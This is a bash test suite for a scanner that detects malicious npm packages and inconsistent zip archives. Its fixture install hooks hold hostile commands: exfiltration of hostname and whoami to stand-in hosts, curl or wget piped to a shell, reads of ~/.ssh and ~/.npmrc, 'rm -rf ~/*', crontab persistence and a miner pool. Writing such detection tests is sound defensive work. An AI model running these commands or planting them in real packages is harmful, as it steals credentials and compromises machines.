#!/usr/bin/env bash
# Malicious-package shapes (issue 20, package half): install scripts parsed
# as shell, the JavaScript install hooks run (install-time rules), package
# metadata (typosquatting, dependency confusion, remote dependencies, bin
# shadowing, publishConfig, missing entry points, manifest confusion) and
# zips whose central directory disagrees with their local headers. Each
# shape is a harmless package of ours (endpoints under .invalid and
# example.com) with a benign twin that must stay silent.
. "$(dirname "$0")/lib.sh"

pkg() { # pkg JSON [FILE CONTENT]...: a new package directory; prints its path
  local d
  d=$(mktemp -d "$TMP/p.XXXXXX")
  printf '%s\n' "$1" >"$d/package.json"
  shift
  while [ $# -ge 2 ]; do
    mkdir -p "$(dirname "$d/$1")"
    printf '%s\n' "$2" >"$d/$1"
    shift 2
  done
  echo "$d"
}
hooks() { # hooks SCRIPTS-JSON: a package with those scripts; prints its path
  pkg "{ \"name\": \"hook-test\", \"version\": \"1.0.0\", \"main\": \"index.js\", \"scripts\": $1 }" \
    index.js 'module.exports = 1;'
}
found() { # found INPUT: "rule severity" of the malware-specific findings, sorted
  "$PV" scan --no-db --quiet --json "$TMP/out.jsonl" --text /dev/null "$1" >/dev/null 2>&1
  python3 -c '
import json, re, sys
for l in open(sys.argv[1]):
    for f in json.loads(l)["findings"]:
        if re.match(r"pkg\.(install-script|install-time|typosquat|dependency-(confusion|remote)|bin-|publish-|entry-|manifest-)|archive\.zip-", f["rule_id"]):
            print(f["rule_id"], f["severity"], f["path"].split("/")[-1])' "$TMP/out.jsonl" | sort
}
messages() { # messages [JSONL]: the findings' messages of the last scan
  python3 -c '
import json, sys
for l in open(sys.argv[1]):
    for f in json.loads(l)["findings"]: print(f["message"])' "${1:-$TMP/out.jsonl}"; }

has_str() { case "$1" in *"$2"*) ok 0 "$3" ;; *) ok 1 "$3"; _diag "no '$2' in: $1" ;; esac; }

# ---- 1. lifecycle scripts -------------------------------------------------
is "$(found "$(hooks '{ "preinstall": "nslookup `hostname`.x1.oast.invalid" }')")" \
  "pkg.install-script.exfiltration critical package.json" "nslookup of a name built from hostname"
is "$(found "$(hooks '{ "install": "curl -s \"https://x.example.com/?d=$(whoami)\"" }')")" \
  "pkg.install-script.exfiltration critical package.json" "curl with \$(whoami) in the URL"
is "$(found "$(hooks '{ "postinstall": "ping -c1 $USER.oast.invalid" }')")" \
  "pkg.install-script.exfiltration critical package.json" "ping of a name built from \$USER"
is "$(found "$(hooks '{ "postinstall": "wget -qO- https://dl.example.com/p.sh | sh" }')")" \
  "pkg.install-script.download-exec critical package.json" "wget piped to sh"
is "$(found "$(hooks '{ "install": "curl -fsSL -o s.sh https://dl.example.com/s.sh && bash s.sh" }')" | head -1)" \
  "pkg.install-script.download-exec critical package.json" "a downloaded file run by bash"
is "$(found "$(hooks '{ "install": "sh -c '"'"'eval \"$(curl -s https://dl.example.com/x)\"'"'"'" }')" | head -1)" \
  "pkg.install-script.download-exec critical package.json" "eval of a curl substitution inside sh -c"
is "$(found "$(hooks '{ "postinstall": "find ~/.ssh -type f | xargs cat" }')")" \
  "pkg.install-script.credentials critical package.json" "find ~/.ssh | xargs cat"
is "$(found "$(hooks '{ "preinstall": "cat < $HOME/.npmrc > /tmp/n" }')")" \
  "pkg.install-script.credentials critical package.json" "~/.npmrc read through a redirection"
is "$(found "$(hooks '{ "postinstall": "chmod +x bin/x.sh && ./bin/x.sh" }')")" \
  "pkg.install-script.exec-file high package.json" "chmod +x then run"
is "$(found "$(hooks '{ "postinstall": "nohup node index.js > /dev/null 2>&1 &" }')")" \
  "pkg.install-script.background high package.json" "nohup ... &"
d=$(hooks '{ "postinstall": "npm run setup", "setup": "curl -s https://dl.example.com/x | bash" }')
is "$(found "$d" | head -1)" "pkg.install-script.download-exec critical package.json" \
  "followed through npm run setup"
has_str "$(messages)" 'through the "setup" script it runs' "the message names the script run"

benign='{ "install": "node-gyp rebuild", "prepare": "husky install && tsc -p .",
  "postinstall": "prebuild-install || node-gyp rebuild", "prepublish": "patch-package",
  "build": "node scripts/build.js", "test": "curl -s https://x.example.com | sh" }'
is "$(found "$(hooks "$benign")")" "" \
  "twins: node-gyp, husky, tsc, prebuild-install || node-gyp, patch-package; a test script is no hook"
is "$(found "$(hooks '{ "postinstall": "chmod +x bin/cli.js", "preinstall": "echo $npm_package_version" }')")" "" \
  "twins: chmod +x alone, echo of a variable"
is "$(found "$(hooks '{ "postinstall": "curl -sL https://github.com/x/y/releases/download/v1/a.tgz | tar xz" }')")" "" \
  "twin: a download unpacked by tar, not run by a shell"
is "$(found "$(hooks '{ "install": "curl -sL -o \"$HOME/.cache/t/$(uname -m).tgz\" https://dl.example.com/t-$npm_package_version.tgz" }')")" "" \
  "twin: a substitution in the output path, a version variable in the URL"

# start-up entries, deleted homes, miners (pkg.install-script.payload)
pay="pkg.install-script.payload critical package.json"
is "$(found "$(hooks '{ "postinstall": "echo \"node $PWD/index.js &\" >> ~/.zshrc" }')")" "$pay" \
  "an append to ~/.zshrc"
is "$(found "$(hooks '{ "postinstall": "(crontab -l; echo \"@reboot node x.js\") | crontab -" }')")" "$pay" \
  "a new crontab piped in"
is "$(found "$(hooks '{ "preinstall": "rm -rf ~/*" }')")" "$pay" "rm -rf ~/*"
is "$(found "$(hooks '{ "postinstall": "./bin/kw -o stratum+tcp://pool.example.invalid:3333" }')")" "$pay" \
  "a stratum pool on a command line"
is "$(found "$(hooks '{ "postinstall": "rm -rf dist build && echo done >> build.log && crontab -l" }')")" "" \
  "twins: rm -rf of the package's folders, a log append, crontab -l"
# a shell file of the package run by the hook is read as part of it
d=$(pkg '{ "name": "sh-file", "version": "1.0.0", "scripts": { "postinstall": "sh scripts/setup.sh" } }' \
  scripts/setup.sh 'curl -s https://dl.example.com/x | sh')
is "$(found "$d")" "pkg.install-script.download-exec critical package.json" "sh scripts/setup.sh → its curl | sh"
has_str "$(messages)" 'through the "scripts/setup.sh" script it runs' "... named in the message"
d=$(pkg '{ "name": "sh-file", "version": "1.0.0", "scripts": { "postinstall": "bash ./build.sh" } }' \
  build.sh 'tsc -p . && cp -r assets dist/')
is "$(found "$d")" "" "twin: a shell file that builds offline"
d=$(pkg '{ "name": "win-drop", "version": "1.0.0", "scripts": { "install": "certutil -urlcache -split -f https://dl.example.com/u.exe u.exe && u.exe" } }')
is "$(found "$d")" "pkg.install-script.download-exec critical package.json" "certutil download, then run"
d=$(pkg '{ "name": "bun-hook", "version": "1.0.0", "scripts": { "preinstall": "bun run runner.js" } }' \
  runner.js 'require("child_process").execSync("curl -s https://x.example.com");')
is "$(found "$d")" "pkg.install-time.child-process high runner.js" "bun run FILE is install-time code"
is "$(found "$(hooks '{ "preinstall": "python3 -c \"import urllib.request as u; exec(u.urlopen(\u0027https://x.example.com/p\u0027).read())\"" }')")" \
  "pkg.install-script.download-exec critical package.json" "python -c that fetches and execs"
is "$(found "$(hooks '{ "postinstall": "python3 -c \"import sys; print(sys.version)\"" }')")" "" \
  "twin: python -c that prints its version"

deep=$(python3 -c 'print("$(" * 300 + "x")')
d=$(hooks "{ \"postinstall\": \"$deep\" }")
"$PV" scan --no-db --quiet --json "$TMP/deep.jsonl" --text /dev/null "$d" >/dev/null 2>&1
is "$?" 0 "300 nested substitutions: scanned"
check "a script-truncated note says so" grep -q script-truncated "$TMP/deep.jsonl"

# The package checks count in the risk summary (install, metadata groups).
risk() { python3 -c 'import json,sys; print(json.loads(open(sys.argv[1]).readline())["risk"]["verdict"])' "$TMP/out.jsonl"; }
found "$(hooks '{ "postinstall": "wget -qO- https://dl.example.com/p.sh | sh" }')" >/dev/null
is "$(risk)" "malicious-looking" "a download-and-run install script makes the verdict malicious-looking"
found "$(hooks '{ "postinstall": "node-gyp rebuild" }')" >/dev/null
is "$(risk)" "ordinary" "... node-gyp rebuild leaves it ordinary (twin)"

# ---- 2. install hooks that run JavaScript ------------------------------------
net='const https = require("https"); module.exports = () => https.get("https://x.example.com");'
d=$(pkg '{ "name": "inst-js", "version": "1.0.0", "scripts": { "postinstall": "node install.js" } }' \
  install.js 'require("./lib/net")();' lib/net.js "$net")
is "$(found "$d" | uniq)" "pkg.install-time.network high net.js" "node install.js → its local require uses https"
d=$(pkg '{ "name": "inst-js", "version": "1.0.0", "main": "lib/net.js", "scripts": { "install": "node ." } }' \
  lib/net.js "$net")
is "$(found "$d" | uniq)" "pkg.install-time.network high net.js" "node . → main"
d=$(pkg '{ "name": "inst-js", "version": "1.0.0", "scripts": { "preinstall": "node -e \"require(\u0027./lib/cp.js\u0027)\"" } }' \
  lib/cp.js 'const { spawn } = require("child_process"); spawn("sh", ["-c", "id"]);
const dns = require("dns"); dns.resolve(require("os").hostname() + ".x.invalid", () => {});')
is "$(found "$d" | uniq)" "pkg.install-time.child-process high cp.js
pkg.install-time.dns high cp.js" "node -e \"require('./x')\": child_process and dns"
d=$(pkg '{ "name": "inst-js", "version": "1.0.0", "main": "lib/net.js" }' lib/net.js "$net")
is "$(found "$d")" "" "twin: the same code as runtime code (no hook) stays ordinary"
d=$(pkg '{ "name": "inst-js", "version": "1.0.0", "main": "lib/net.js", "scripts": { "postinstall": "node scripts/build.js" } }' \
  scripts/build.js 'const fs = require("fs"); fs.writeFileSync(__dirname + "/out.txt", "built");' lib/net.js "$net")
is "$(found "$d")" "" "twin: an offline build script; the library's https stays runtime"

# ---- 3. metadata ------------------------------------------------------------------
d=$(pkg '{ "name": "lodahs", "version": "1.0.0", "dependencies": { "expresss": "^4.0.0", "rnoment": "1", "lo-da-sh": "1", "chalk-js": "1", "axois": "1" } }')
is "$(found "$d" | sort | uniq -c | sed 's/^ *//')" "6 pkg.typosquat high package.json" "own name and five dependencies"
m=$(messages)
has_str "$m" "lodahs, one edit away from the popular package lodash" "transposition"
has_str "$m" "rnoment (in dependencies) is a homoglyph away from the popular package moment" "homoglyph (rn for m)"
has_str "$m" "lo-da-sh (in dependencies) is a separator change away from the popular package lodash" "separator"
has_str "$m" "chalk-js (in dependencies) is an added prefix or suffix away from the popular package chalk" "suffix"
d=$(pkg '{ "name": "my-unusual-plugin-name", "version": "1.0.0", "dependencies": { "express": "^4", "lodash": "4", "@types/lodash": "4", "chalk": "5", "debug": "4" } }')
is "$(found "$d")" "" "twin: popular names and @types are never typosquats"
d=$(pkg '{ "name": "my-unusual-plugin-name", "version": "1.0.0", "dependencies": { "markdownlint-cli2": "1", "rollup-plugin-babel": "4" }, "devDependencies": { "expresss": "1" } }')
is "$(found "$d")" "" "twins: a digit edit (a version), an old unscoped name, a devDependency (not installed by users)"

conf='{ "name": "acme-internal-utils", "version": "99.9.9", "main": "index.js", "scripts": { "preinstall": "node index.js" } }'
is "$(found "$(pkg "$conf" index.js 'module.exports = 1;')")" \
  "pkg.dependency-confusion critical package.json" "unscoped, version 99.9.9, preinstall"
is "$(found "$(pkg "${conf/99.9.9/1.0.0}" index.js 'module.exports = 1;')")" "" "twin: version 1.0.0"
is "$(found "$(pkg '{ "name": "acme-internal-utils", "version": "999.0.0", "main": "index.js" }' index.js '1;')")" "" \
  "twin: an absurd version without an install hook"

d=$(pkg '{ "name": "remote", "version": "1.0.0", "dependencies": { "a": "git+https://git.example.com/a.git", "b": "github:someone/b", "c": "https://example.com/c.tgz" },
  "devDependencies": { "d": "github:someone/d" } }')
is "$(found "$d" | sort | uniq -c | sed 's/^ *//')" "3 pkg.dependency-remote high package.json" "git, github: and tarball URLs"
d=$(pkg '{ "name": "remote", "version": "1.0.0", "dependencies": { "a": "^1.2.3", "b": "npm:other@1", "c": "file:../c", "d": "workspace:*", "e": ">=1 <2" } }')
is "$(found "$d")" "" "twin: ranges, npm: aliases, file: and workspace: specs"

is "$(found "$(pkg '{ "name": "tool", "version": "1.0.0", "bin": { "git": "cli.js", "tool": "cli.js" } }' cli.js '1;')")" \
  "pkg.bin-shadows-command high package.json" "bin named git"
is "$(found "$(pkg '{ "name": "tool", "version": "1.0.0", "bin": { "tool": "cli.js" } }' cli.js '1;')")" "" "twin: bin named tool"
is "$(found "$(pkg '{ "name": "npm", "version": "1.0.0", "bin": "cli.js" }' cli.js '1;')")" "" \
  "twin: the npm package's own npm command"

is "$(found "$(pkg '{ "name": "pub", "version": "1.0.0", "publishConfig": { "registry": "https://npm.example.com/" } }')")" \
  "pkg.publish-registry high package.json" "publishConfig to another registry"
is "$(found "$(pkg '{ "name": "pub", "version": "1.0.0", "publishConfig": { "registry": "https://registry.npmjs.org/", "access": "public" } }')")" \
  "" "twin: npm's registry"

is "$(found "$(pkg '{ "name": "m", "version": "1.0.0", "main": "lib/index.js", "scripts": { "postinstall": "node setup.js" } }' setup.js '1;')")" \
  "pkg.entry-missing high package.json" "main missing, an install hook does the work"
is "$(found "$(pkg '{ "name": "m", "version": "1.0.0", "main": "lib/index", "exports": { ".": { "require": "./lib/index.js", "import": "./esm/*.mjs" } } }' lib/index.js '1;')")" \
  "" "twin: main without extension, exports present, patterns skipped"
is "$(found "$(pkg '{ "name": "m", "version": "1.0.0", "exports": { ".": "./dist/none.js" } }')")" \
  "pkg.entry-missing medium package.json" "exports target missing, no hook: medium"

d=$(pkg '{ "name": "real-name", "version": "1.0.0" }' package-lock.json '{ "name": "other-name", "lockfileVersion": 3 }')
is "$(found "$d")" "pkg.manifest-confusion high package.json" "package-lock.json names another package"
d=$(pkg '{ "name": "real-name", "version": "1.0.0" }' package-lock.json '{ "name": "real-name", "lockfileVersion": 3 }')
is "$(found "$d")" "" "twin: the lockfile agrees"
mkdir -p "$TMP/tar/package" && echo '{ "name": "@acme/real-name", "version": "2.0.0" }' >"$TMP/tar/package/package.json"
tar czf "$TMP/other-pkg-2.0.0.tgz" -C "$TMP/tar" package
tar czf "$TMP/acme-real-name-2.0.0.tgz" -C "$TMP/tar" package
is "$(found "$TMP/other-pkg-2.0.0.tgz")" "pkg.manifest-confusion high package.json" "archive named for another package"
is "$(found "$TMP/acme-real-name-2.0.0.tgz")" "" "twin: npm pack's name for @acme/real-name@2.0.0"

# ---- 4. zip central directory against local headers --------------------------------
python3 - "$TMP" <<'EOF'
import io, struct, sys, zipfile
b = io.BytesIO()
with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr("package.json", '{"name":"z","version":"1.0.0"}')
    z.writestr("evil.js", "const x = process.argv[2];\neval(x);\n")
ok = bytearray(b.getvalue())
open(sys.argv[1] + "/ok.zip", "wb").write(ok)
z = bytearray(ok)  # the central directory renames evil.js
cd = z.rfind(b"PK\x01\x02")
i = z.find(b"evil.js", cd)
z[i:i + 7] = b"good.js"
open(sys.argv[1] + "/cdname.zip", "wb").write(z)
z = bytearray(ok)  # the end record's central-directory size is off
e = z.rfind(b"PK\x05\x06")
struct.pack_into("<I", z, e + 12, struct.unpack_from("<I", z, e + 12)[0] + 7)
open(sys.argv[1] + "/cdsize.zip", "wb").write(z)
z = bytearray(ok)  # the central directory says a different size for evil.js
struct.pack_into("<I", z, cd + 24, 9999)
open(sys.argv[1] + "/cdlen.zip", "wb").write(z)
EOF
paths() { "$PV" scan --no-db --quiet --json "$TMP/z.jsonl" --text /dev/null "$1" >/dev/null 2>&1
  python3 -c '
import json, sys
for l in open(sys.argv[1]):
    print(" ".join(sorted({f["rule_id"] + ":" + f["path"].split("/")[-1] for f in json.loads(l)["findings"]})))' "$TMP/z.jsonl"; }
is "$(paths "$TMP/ok.zip")" "js.code-injection.eval-non-literal:evil.js" "twin: a consistent zip, read as is"
is "$(paths "$TMP/cdname.zip")" "archive.zip-inconsistent:cdname.zip js.code-injection.eval-non-literal:good.js" \
  "names disagree: reported, and the central directory's name is the one scanned"
has_str "$(messages "$TMP/z.jsonl")" "the central directory names entry 1 'good.js', its local header 'evil.js'" "the message says which"
is "$(paths "$TMP/cdsize.zip")" "archive.zip-inconsistent:cdsize.zip js.code-injection.eval-non-literal:evil.js" \
  "a corrupted central-directory size: reported, the local headers scanned"
is "$(paths "$TMP/cdlen.zip" | cut -d' ' -f1)" "archive.zip-inconsistent:cdlen.zip" "sizes disagree: reported"

done_testing
